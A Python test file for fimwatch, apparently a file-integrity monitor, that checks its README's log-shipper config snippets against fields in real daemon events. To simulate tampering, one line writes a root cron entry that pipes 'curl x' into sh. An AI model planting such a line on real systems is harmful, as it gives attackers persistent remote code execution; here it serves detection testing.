"""The log shippers' snippets in README.md ("Shippers that read the events
file") name fields of fimwatch's events: every field a snippet uses must be
in real events written by the daemon, in the format the snippet says. The
shippers themselves are not installed (they are not Debian packages, or
would add a service); what is checked is the contract between the README
and the events, so neither can drift."""

import json
import re
from pathlib import Path

import fimwatch
from conftest import is_event, write

README = Path(__file__).resolve().parent.parent / "README.md"
SNIPPET_RE = re.compile(r"^```\w*\n(?:#|//|<!--) fimwatch snippet: ([\w-]+), format (\w+).*?\n"
                        r"(.*?)^```", re.M | re.S)

# how each tool names a field of the parsed JSON
FIELD_RE = {
    "filebeat": [r"when\.equals\.([\w.]+):"],
    "alloy": [r'expressions = \{(.*?)\}'],
    "vector": [r'(?<![\w"!])\.([a-z_]\w*(?:\.[a-z_]\w*)*)'],
    "fluent-bit": [r"\$(\w+)"],
    "wazuh": [r'<field name="([\w.]+)">', r"\$\(([\w.]+)\)"],
}


def snippets():
    found = SNIPPET_RE.findall(README.read_text())
    assert {t for t, _, _ in found} == set(FIELD_RE), found
    return found


def fields_of(tool, body):
    if tool == "vector":                   # the fields read after the event is parsed
        body = body.split("parse_json!(.message)", 1)[1]
        body = re.sub(r"^\.[\w.]+ = ", "", body, flags=re.M)      # not what it assigns
    out = []
    for rx in FIELD_RE[tool]:
        for m in re.findall(rx, body, re.S):
            if tool == "alloy":
                out += re.findall(r'= "([\w.]+)"', m)
            else:
                out.append(m)
    assert out, (tool, body)
    return out


def lookup(doc, dotted):
    cur = doc
    for part in dotted.split("."):
        if not isinstance(cur, dict) or part not in cur:
            return None
        cur = cur[part]
    return cur




def test_every_snippet_field_is_in_real_events(fim):
    cron = fim.root / "cron.d" / "backup"
    cron.parent.mkdir()
    write(cron, "0 3 * * * root /usr/local/bin/backup\n")
    d = fim.daemon()
    write(cron, "0 3 * * * root /usr/local/bin/backup\n*/5 * * * * root curl x | sh\n")
    ev = d.wait_for(is_event("modified", cron))
    assert ev.get("summary"), ev
    docs = {"fimwatch": ev, "ecs": fimwatch.ecs_event(ev)}
    checked = []
    for tool, fmt, body in snippets():
        for field in fields_of(tool, body):
            assert lookup(docs[fmt], field) is not None, \
                "README's %s snippet uses %r, not in a %s event: %s" % (
                    tool, field, fmt, json.dumps(docs[fmt])[:600])
            checked.append("%s:%s" % (tool, field))
    print("\nsnippet fields checked: %s" % " ".join(checked))
    assert len(checked) >= 9, checked
